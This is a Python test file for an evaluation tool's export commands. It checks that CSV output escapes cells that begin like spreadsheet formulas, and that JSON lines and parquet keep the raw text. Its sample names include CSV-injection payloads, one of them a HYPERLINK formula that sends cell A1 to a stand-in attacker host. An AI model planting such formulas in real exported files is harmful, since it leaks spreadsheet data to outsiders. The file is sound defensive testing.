"""Every CSV evaldag writes is safe to open in a spreadsheet: a text cell that starts with
``= + - @``, a tab or a carriage return gets a leading ``'`` (read as text, never as a formula);
JSON lines and parquet keep the raw text. Real run folders with such names, the CLI as a user runs it."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest

from ..inprocess import run_cli

NAMES = ['=HYPERLINK("https:evil.example?x="&A1,"click")', "+1+2", "-2+3", "@SUM(1+1)", "\tcmd", "\rcmd", "plain"]


def _evaldag(*args) -> str:
    """The command's standard output as it writes it (no newline translation), run in the test's process."""
    done = run_cli(list(args))
    assert done.returncode == 0, done.stderr
    return done.stdout


def _read(path: Path) -> str:
    with open(path, encoding="utf-8", newline="") as f:
        return f.read()


@pytest.fixture(scope="module")
def sweep(tmp_path_factory) -> Path:
    """A sweep's OUT whose checkpoint folders carry the names: one toy run, copied under each."""
    root = tmp_path_factory.mktemp("csv")
    _evaldag("run", "toy", "--out", root / "one", "--cache-dir", root / "cache")
    for name in NAMES:
        shutil.copytree(root / "one", root / "sweep" / name)
    return root / "sweep"


def _safe(text: str) -> str:
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


def test_export_csv_escapes_names_that_a_spreadsheet_would_run(sweep, tmp_path):
    for out in (None, tmp_path / "t.csv"):
        shown = _evaldag("export", sweep, "--csv", *(["--out", out] if out else []))
        text = _read(out) if out else shown
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        assert sorted({r["run"] for r in rows}) == sorted(_safe(n) for n in NAMES)
        assert {r["run"] for r in rows if r["run"][:1] not in ("'", "p")} == set()
        assert all(float(r["value"]) == float(r["value"]) for r in rows)  # numbers stay numbers
    jsonl = _evaldag("export", sweep, "--jsonl")
    assert sorted({json.loads(line)["run"] for line in jsonl.splitlines()}) == sorted(NAMES)  # raw text


def test_export_parquet_keeps_the_raw_names(sweep, tmp_path):
    pd = pytest.importorskip("pandas")
    pytest.importorskip("pyarrow")
    _evaldag("export", sweep, "--parquet", "--out", tmp_path / "t.parquet")
    assert sorted(set(pd.read_parquet(tmp_path / "t.parquet")["run"])) == sorted(NAMES)


def test_compare_csv_escapes_its_text_cells_and_its_json_keeps_them(tmp_path):
    a, b = tmp_path / "a", tmp_path / "b"
    for folder, value in ((a, 0.5), (b, 0.25)):  # a benchmark group and a metric named like formulas
        folder.mkdir()
        (folder / "=CMD_SUMMARY.json").write_text(json.dumps({"@SUM(A1)": value, "-x": -value}))
        (folder / "run.json").write_text(json.dumps({"nodes": {}, "benchmarks": [], "provenance": {}}))
    _evaldag("compare", a, b, "--out", tmp_path / "d.csv")
    rows = list(csv.DictReader(io.StringIO(_read(tmp_path / "d.csv"), newline="")))
    assert [(r["benchmark"], r["metric"], r["a"], r["b"], r["delta"]) for r in rows] == [
        ("'=CMD", "'@SUM(A1)", "0.5", "0.25", "-0.25"), ("'=CMD", "'-x", "-0.5", "-0.25", "0.25")]
    _evaldag("compare", a, b, "--out", tmp_path / "d.json")
    saved = json.loads((tmp_path / "d.json").read_text())["metrics"]
    assert [(r["benchmark"], r["metric"]) for r in saved] == [("=CMD", "@SUM(A1)"), ("=CMD", "-x")]
